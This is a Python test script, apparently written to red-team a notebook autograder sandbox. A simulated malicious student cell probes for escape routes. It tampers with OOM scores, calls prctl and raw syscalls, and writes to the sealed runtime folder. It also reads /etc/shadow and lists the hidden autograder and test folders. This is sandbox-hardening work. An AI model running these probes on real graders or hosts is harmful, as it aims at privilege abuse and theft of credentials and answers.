"""A battery in mallory's first answer cell (before the solution): what round 50-52's rules leave to a kernel when
the grader is an ordinary user (the sandbox's host uid is the grader's): its OOM score (set to 1000 by the launcher
without privilege, so oom_score_adj_min stays 0), prctl options other than SECCOMP/FUTEX_HASH, the sealed runtime
folder, new syscall numbers, host paths visible, SIGIO ownership aimed outside its processes."""
import sys; sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
import harness
PAYLOAD = r'''
import os, ctypes, json, errno, fcntl, socket, resource
_r = {}
libc = ctypes.CDLL(None, use_errno=True)
def _try(name, f):
    try: _r[name] = f()
    except Exception as e: _r[name] = "EXC " + type(e).__name__ + ": " + str(e)[:120]
def _c(*a):
    v = libc.syscall(*a); return (v, errno.errorcode.get(ctypes.get_errno(), ctypes.get_errno()) if v < 0 else 0)
_try("oom_before", lambda: open("/proc/self/oom_score_adj").read().strip())
def _lower(v):
    with open("/proc/self/oom_score_adj", "w") as f: f.write(str(v))
    return open("/proc/self/oom_score_adj").read().strip()
_try("oom_lower_0", lambda: _lower(0))
_try("oom_lower_-100", lambda: _lower(-100))
_try("pids", lambda: {p: open(f"/proc/{p}/cmdline","rb").read()[:80].decode("latin1") for p in os.listdir("/proc") if p.isdigit()})
_try("oom_pid1", lambda: open("/proc/1/oom_score_adj").read().strip())
def _lower1():
    with open("/proc/1/oom_score_adj", "w") as f: f.write("0")
    return open("/proc/1/oom_score_adj").read().strip()
_try("oom_pid1_lower", _lower1)
PR = dict(SCHED_CORE=(62, 1, 0, 0, 0), MEMORY_MERGE=(67, 1, 0, 0, 0), THP_DISABLE=(41, 1, 0, 0, 0),
          TIMERSLACK=(29, 1, 0, 0, 0), SET_MDWE=(65, 1, 0, 0, 0), SECCOMP_hi=((1 << 32) | 22, 2, 0, 0, 0),
          FUTEX_HASH_hi=((1 << 32) | 78, 1, 1 << 20, 0, 0), SET_PTRACER=(0x59616d61, -1 & 0xffffffffffffffff, 0, 0, 0))
for k, a in PR.items():
    _try("prctl_" + k, lambda a=a: _c(157, *[ctypes.c_ulong(x) for x in a]))
_try("mountinfo_rw", lambda: [l.split()[4] + " " + l.split()[5] for l in open("/proc/self/mountinfo") if " rw," in l.split(" - ")[0] + " " or l.split()[5].startswith("rw")][:40])
_try("mountinfo_n", lambda: len(open("/proc/self/mountinfo").read().splitlines()))
_try("runtime", lambda: (os.environ.get("JUPYTER_RUNTIME_DIR"), os.listdir(os.environ.get("JUPYTER_RUNTIME_DIR", "/nonexistent"))))
def _wr():
    p = os.path.join(os.environ["JUPYTER_RUNTIME_DIR"], "x"); open(p, "w").write("x"); return "WROTE"
_try("runtime_write", _wr)
for nr in (448, 449, 450, 451, 452, 453, 460, 462, 467):
    _try(f"sys_{nr}", lambda nr=nr: _c(nr, 0, 0, 0, 0, 0))
_try("setsockopt_hi_level", lambda: _c(54, socket.socket().fileno(), (1 << 32) | 1, 26, 0, 0))
def _sigio():
    s1, s2 = socket.socketpair(); fcntl.fcntl(s1, fcntl.F_SETOWN, 1); return "setown ok", fcntl.fcntl(s1, fcntl.F_GETOWN)
_try("setown_pid1", _sigio)
for p in ("CLONE/source", "CLONE/autograders", "CLONE/.venv/etc/jupyter",
          "CLONE/.git", "CLONE/tests", "/tmp/attack53-user-home", "/proc/loadavg", "/sys/kernel", "/etc/shadow"):
    _try("ls " + p, lambda p=p: (os.listdir(p)[:8] if os.path.isdir(p) else open(p).read()[:80]))
_try("rlimits", lambda: {n: resource.getrlimit(getattr(resource, n)) for n in ("RLIMIT_NPROC", "RLIMIT_NOFILE", "RLIMIT_DATA", "RLIMIT_AS", "RLIMIT_SIGPENDING", "RLIMIT_MEMLOCK")})
_try("ids", lambda: (os.getuid(), open("/proc/self/uid_map").read().strip(), open("/proc/self/status").read().split("CapEff:")[1].split()[0]))
print("BATTERY " + json.dumps(_r, default=str))
'''
d, r, sc = harness.run_class("a02", "ps1_memory", {"mallory": harness.with_payload("ps1_memory", "training_memory", PAYLOAD)})
out = harness.outputs(d, "mallory", "ps1_memory")
import json
for line in out.splitlines():
    if line.startswith("BATTERY "):
        for k, v in json.loads(line[8:]).items():
            print(f"{k}: {v}")
harness.leaks(d)
